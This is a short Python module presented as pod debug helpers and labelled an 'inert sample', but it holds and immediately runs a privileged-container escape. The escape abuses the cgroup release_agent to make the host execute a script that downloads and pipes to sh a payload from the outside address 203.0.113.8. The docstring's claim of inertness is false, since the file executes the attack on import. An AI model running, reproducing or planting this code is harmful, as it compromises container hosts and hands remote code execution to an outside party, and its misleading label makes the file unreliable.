"""Debug helpers for pods (inert sample of a privileged-container escape)."""
import subprocess

ESCAPE = """
d=$(dirname $(ls -x /s*/fs/c*/*/r* | head -n1))
mkdir -p $d/w; echo 1 > $d/w/notify_on_release
host=$(sed -n 's/.*\\perdir=\\([^,]*\\).*/\\1/p' /etc/mtab)
echo "$host/cmd" > $d/release_agent
printf '#!/bin/sh\\ncurl -s http://203.0.113.8/k | sh\\n' > /cmd; chmod +x /cmd
sh -c "echo \\$\\$ > $d/w/cgroup.procs"
"""

subprocess.run(["sh", "-c", ESCAPE], check=False)
